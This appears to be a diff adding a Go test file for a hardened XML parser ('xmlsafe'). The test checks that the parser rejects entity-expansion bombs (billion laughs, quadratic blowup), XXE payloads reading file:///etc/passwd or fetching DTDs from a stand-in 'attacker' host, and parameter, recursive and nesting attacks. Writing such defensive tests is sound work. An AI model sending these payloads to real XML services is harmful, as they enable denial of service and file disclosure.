@@ -0,0 +1,169 @@
+package xmlsafe
+
+import (
+	"errors"
+	"fmt"
+	"strings"
+	"testing"
+)
+
+const billionLaughs = `<?xml version="1.0"?>
+<!DOCTYPE lolz [
+ <!ENTITY lol "lol">
+ <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
+ <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
+ <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
+ <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
+ <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
+ <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
+ <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
+ <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
+ <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
+]>
+<lolz>&lol9;</lolz>`
+
+func violation(t *testing.T, err error) Violation {
+	t.Helper()
+	var xe *Error
+	if !errors.As(err, &xe) {
+		t.Fatalf("expected *Error, got %v", err)
+	}
+	return xe.Violation
+}
+
+func TestMaliciousPayloads(t *testing.T) {
+	// Quadratic blowup: one large entity referenced many times.
+	quadratic := `<!DOCTYPE q [<!ENTITY a "` + strings.Repeat("a", 50000) + `">]><q>` +
+		strings.Repeat("&a;", 50) + `</q>`
+
+	tests := []struct {
+		name string
+		doc  string
+		want Violation
+	}{
+		{"billion laughs", billionLaughs, ViolationEntityExpansion},
+		{"quadratic blowup", quadratic, ViolationEntityExpansion},
+		{"xxe system entity", `<?xml version="1.0"?>
+<!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
+<foo>&xxe;</foo>`, ViolationExternalEntity},
+		{"xxe public entity", `<!DOCTYPE foo [<!ENTITY xxe PUBLIC "-//x//EN" "http://attacker/x.dtd">]><foo>&xxe;</foo>`, ViolationExternalEntity},
+		{"external dtd", `<!DOCTYPE foo SYSTEM "http://attacker/evil.dtd"><foo/>`, ViolationExternalEntity},
+		{"parameter entity", `<!DOCTYPE foo [<!ENTITY % p "<!ENTITY x 'y'>"> %p;]><foo/>`, ViolationParameterEntity},
+		{"recursive entity", `<!DOCTYPE foo [<!ENTITY a "&b;"><!ENTITY b "&a;">]><foo>&a;</foo>`, ViolationEntityExpansion},
+		{"deep nesting", strings.Repeat("<a>", 200) + strings.Repeat("</a>", 200), ViolationDepth},
+		{"too many attributes", "<a " + attrs(150) + "/>", ViolationAttributes},
+		{"too many entities", `<!DOCTYPE foo [` + entities(30) + `]><foo/>`, ViolationEntityCount},
+		{"undeclared entity", `<foo>&nope;</foo>`, ViolationSyntax},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			if got := violation(t, Check([]byte(tt.doc))); got != tt.want {
+				t.Errorf("expected %s, got %s", tt.want, got)
+			}
+		})
+	}
+}
+
+func attrs(n int) string {
+	var b strings.Builder
+	for i := 0; i < n; i++ {
+		fmt.Fprintf(&b, `a%d="x" `, i)
+	}
+	return b.String()
+}
+
+func entities(n int) string {
+	var b strings.Builder
+	for i := 0; i < n; i++ {
+		fmt.Fprintf(&b, `<!ENTITY e%d "x">`, i)
+	}
+	return b.String()
+}
+
+func TestSizeLimit(t *testing.T) {
+	_, err := ParseWithLimits([]byte("<a>"+strings.Repeat("x", 200)+"</a>"), Limits{MaxBytes: 100})
+	if got := violation(t, err); got != ViolationSize {
+		t.Errorf("expected size violation, got %s", got)
+	}
+}
+
+func TestSetLimits(t *testing.T) {
+	defer SetLimits(Limits{})
+	SetLimits(Limits{MaxDepth: 2})
+	if CurrentLimits().MaxDepth != 2 || CurrentLimits().MaxBytes != DefaultMaxBytes {
+		t.Fatalf("unexpected limits %+v", CurrentLimits())
+	}
+	if err := Check([]byte("<a><b><c/></b></a>")); err == nil {
+		t.Error("expected depth violation with lowered limit")
+	}
+}
+
+func TestParseTree(t *testing.T) {
+	doc := `<?xml version="1.0"?>
+<!DOCTYPE order [<!ENTITY co "Acme &amp; Co">]>
+<o:order xmlns:o="urn:orders" id="7">
+  <o:customer>&co;</o:customer>
+</o:order>`
+	root, err := Parse([]byte(doc))
+	if err != nil {
+		t.Fatal(err)
+	}
+	if root.Name.Space != "urn:orders" || root.Name.Local != "order" {
+		t.Errorf("unexpected root name %+v", root.Name)
+	}
+	if v, _ := root.Attribute("", "id"); v != "7" {
+		t.Errorf("expected id 7, got %q", v)
+	}
+	if len(root.Attr) != 1 {
+		t.Errorf("expected namespace declarations to be dropped, got %+v", root.Attr)
+	}
+	if uri, _ := root.LookupPrefix("o"); uri != "urn:orders" {
+		t.Errorf("expected prefix o to resolve, got %q", uri)
+	}
+	if len(root.Children) != 1 || root.Children[0].Text != "Acme & Co" {
+		t.Fatalf("unexpected children %+v", root.Children)
+	}
+	if root.Children[0].Line != 4 {
+		t.Errorf("expected child on line 4, got %d", root.Children[0].Line)
+	}
+}
+
+func TestSyntaxErrorPosition(t *testing.T) {
+	err := Check([]byte("<a>\n<b></a>"))
+	var xe *Error
+	if !errors.As(err, &xe) || xe.Violation != ViolationSyntax || xe.Line != 2 {
+		t.Fatalf("expected syntax error on line 2, got %v", err)
+	}
+}
+
+func TestUnmarshal(t *testing.T) {
+	var v struct {
+		Name string `xml:"name"`
+	}
+	if err := Unmarshal([]byte(`<!DOCTYPE u [<!ENTITY n "Ada">]><u><name>&n;</name></u>`), &v); err != nil {
+		t.Fatal(err)
+	}
+	if v.Name != "Ada" {
+		t.Errorf("expected Ada, got %q", v.Name)
+	}
+	if err := Unmarshal([]byte(billionLaughs), &v); err == nil {
+		t.Error("expected billion laughs to be rejected")
+	}
+}
+
+func TestIsXMLContentType(t *testing.T) {
+	tests := map[string]bool{
+		"application/xml":                 true,
+		"text/xml; charset=utf-8":         true,
+		"application/soap+xml":            true,
+		"application/json":                false,
+		"application/xml-dtd-not-a-thing": false,
+		"":                                false,
+		"not a media type;;":              false,
+	}
+	for ct, want := range tests {
+		if got := IsXMLContentType(ct); got != want {
+			t.Errorf("IsXMLContentType(%q) = %v, want %v", ct, got, want)
+		}
+	}
+}